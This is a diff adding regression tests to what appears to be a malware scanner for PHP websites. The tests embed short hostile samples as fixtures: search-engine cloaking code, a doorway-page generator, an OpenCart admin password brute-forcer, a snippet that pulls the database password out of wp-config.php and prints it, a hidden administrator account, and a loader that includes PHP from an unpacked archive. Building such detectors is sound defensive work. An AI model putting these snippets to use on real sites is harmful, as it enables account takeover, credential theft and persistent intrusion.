@@ -398,6 +398,16 @@ fn search_engine_cloaking_is_found() {
                  if (is_google_bot(get_user_agent())) { redirect_to_page('home.php'); } else {\n\
                  echo '<script>setTimeout(function(){ window.location.href = \"' . 'https://8a470nte.hop.clickbank.net' . '\"; }, 4000);</script>'; }";
     assert_eq!(found(offer), [Why::SearchEngineCloaking]);
+    // fresh162's YellowCloaker: reviewers and crawlers get the white page, paying traffic the black.
+    let yellow = "<?php require_once 'core.php'; $cloaker = new Cloaker($os_white, $country_white, $ua_black, $isp_black);\n\
+                  if ($cloaker->check() == 0) { black($cloaker->detect); return; } else { white(false); }";
+    assert!(super::may_match(yellow.as_bytes()));
+    assert_eq!(found(yellow), [Why::SearchEngineCloaking]);
+    let class = "<?php class Cloaker { var $os_white; var $ua_black; function check() { return 0; } }";
+    assert_eq!(found(class), [Why::SearchEngineCloaking]);
+    // A link-cloaking plugin's settings name neither page.
+    let links = "<?php class Link_Cloaker_Settings { var $prefix = 'go'; }";
+    assert!(found(links).is_empty());
     // A cache that skips crawlers fetches nothing.
     let cache = "<?php if (preg_match('/bot|crawl|spider/i', $_SERVER['HTTP_USER_AGENT'])) { return; } $page = file_get_contents($cache_file);";
     assert!(found(cache).is_empty());
@@ -1804,6 +1814,17 @@ fn a_doorway_sitemap_and_a_script_for_strangers_are_found() {
     let own = "<?php $x = '<urlset xmlns=\"http://www.sitemaps.org/schemas/sitemap/0.9\">'; foreach ($db->query('SELECT slug FROM pages') as $p) \
                { $x .= '<url><loc>https://shop.example/' . $p['slug'] . '</loc></url>'; } file_put_contents('sitemap.xml', $x . '</urlset>');";
     assert!(found(own).is_empty(), "{:?}", found(own));
+    // Regression: fresh162's `sitemap.php` reads its list from beside itself.
+    let beside = sitemap.replace("$local_file = 'kw.txt';", "$local_file = dirname(__FILE__) . '/raptor.txt';");
+    assert!(found(&beside).contains(&Why::SpamDoorway), "{:?}", found(&beside));
+    // Regression: fresh162's `seonaga.php` makes a folder and a home page for each keyword.
+    let folders = "<?php function make($d, $tpl) { $p = str_replace('{{ BRAND }}', strtoupper($d), $tpl);\n\
+                   file_put_contents($d . '/index.html', $p); }\n$list = file('naga.txt', FILE_IGNORE_NEW_LINES);\n\
+                   $tpl = file_get_contents('template.html');\nforeach ($list as $d) { if (!is_dir($d)) { mkdir($d, 0755, true); } make($d, $tpl); }";
+    assert!(found(folders).contains(&Why::SpamDoorway), "{:?}", found(folders));
+    // An installer making a folder with an index page of its own, from no list.
+    let guard = "<?php if (!is_dir($up)) { mkdir($up); file_put_contents($up . '/index.html', ''); }";
+    assert!(found(guard).is_empty(), "{:?}", found(guard));
     let strangers = "<?php $in = 0; foreach ($_COOKIE as $k => $v) { if (strstr(strval($k), 'wordpress_logged_in')) { $in = 1; break; } }\n\
                      if ($in == 0) { echo \"<script>document.addEventListener('click', function() { window.open('https://bit.ly/3AAX'); });</script>\"; }";
     assert!(found(strangers).contains(&Why::InjectedScript), "{:?}", found(strangers));
@@ -1879,4 +1900,54 @@ fn dangerous_names_kept_in_base64_literals_are_hidden() {
     // An application's base64 literals of data (an image, a key): no names in them.
     let data = "<?php $img = base64_decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg=='); $f = 'imagecreatefromstring'; $f($img);";
     assert!(!found(data).contains(&Why::HiddenFunctionName));
+}
+
+#[test]
+fn a_list_of_common_passwords_sent_to_logins_is_a_password_cracker() {
+    // Regression: fresh155's OpenCart brute-forcer.
+    let guesser = "<?php function login($url, $user, $pass) { $ch = curl_init(); curl_setopt_array($ch, [CURLOPT_URL => \"$url/admin/index.php?route=common/login\",\n\
+                   CURLOPT_POSTFIELDS => \"username=$user&password=$pass\"]); return curl_exec($ch); }\n\
+                   $list = array('admin', 'demo', 'admin123', '123456', '123456789', '1234567', '12345678', 'password', 'qwerty', 'abc123', '654321');\n\
+                   foreach (explode(\"\\n\", $_POST['sites']) as $site) { foreach ($list as $p) { login($site, 'admin', $p); } }";
+    assert!(found(guesser).contains(&Why::PasswordCracker), "{:?}", found(guesser));
+    // A password policy refusing the common ones, which sends nothing.
+    let policy = guesser.replace("curl_exec", "strlen");
+    assert!(!found(&policy).contains(&Why::PasswordCracker), "{:?}", found(&policy));
+}
+
+#[test]
+fn a_database_password_cut_out_of_wp_config_and_printed_is_shown() {
+    // Regression: fresh167's `mail.php` cuts the settings out of `wp-config.php`'s text.
+    let grab = "<?php $file = @file_get_contents('../wp-config.php');\n\
+                $pass = explode(\"'DB_PASSWORD', '\", $file); $pass = explode(\"');\", $pass[1]); $pass = $pass[0];\n\
+                echo \"db-pass : $pass <br>\";";
+    assert!(found(grab).contains(&Why::ShowsSiteSecrets), "{:?}", found(grab));
+    // A migration tool that finds the line with a pattern and prints nothing of it.
+    let tool = "<?php $c = file_get_contents('wp-config.php'); if (preg_match(\"/define\\(\\s*'DB_PASSWORD'\\s*,/\", $c)) { $ok = true; }";
+    assert!(found(tool).is_empty(), "{:?}", found(tool));
+}
+
+#[test]
+fn a_role_kept_from_other_roles_is_not_a_hidden_administrator() {
+    // Regression: fresh166's User Role Editor keeps administrators, looked up by their role, out
+    // of the users list that editors see.
+    let ure = "<?php class Protect { function __construct() { add_action('pre_user_query', array($this, 'exclude')); }\n\
+               function exclude($q) { global $wpdb; $ids = $wpdb->get_col($wpdb->prepare(\"SELECT user_id FROM {$wpdb->usermeta} WHERE meta_value like %s\", '%administrator%'));\n\
+               $q->query_where .= \" AND ( $wpdb->users.ID NOT IN ( \" . implode(',', $ids) . \" ) )\"; } }";
+    assert!(found(ure).is_empty(), "{:?}", found(ure));
+    // One account left out by its name is an intruder's.
+    let one = "<?php add_action('pre_user_query', 'hide'); function hide($q) { global $wpdb;\n\
+               $q->query_where = str_replace('WHERE 1=1', \"WHERE 1=1 AND {$wpdb->users}.user_login != 'wpsupport'\", $q->query_where); }";
+    assert_eq!(found(one), [Why::HiddenAdministrator]);
+}
+
+#[test]
+fn a_small_script_running_php_from_an_archive_it_unpacks_is_found() {
+    // Regression: fresh166's `siomay.php`.
+    let zip = "<?php $zip = new ZipArchive; if ($zip->open('nasgor.zip') === TRUE) { $p = 'extracted/';\n\
+               if ($zip->extractTo($p)) { $f = $p . 'hehe.php'; if (file_exists($f)) { include($f); } } $zip->close(); }";
+    assert_eq!(found(zip), [Why::IncludeOfData]);
+    // An importer that unpacks and reads a data file.
+    let import = zip.replace("include($f);", "$rows = json_decode(file_get_contents($f), true);");
+    assert!(found(&import).is_empty(), "{:?}", found(&import));
 }
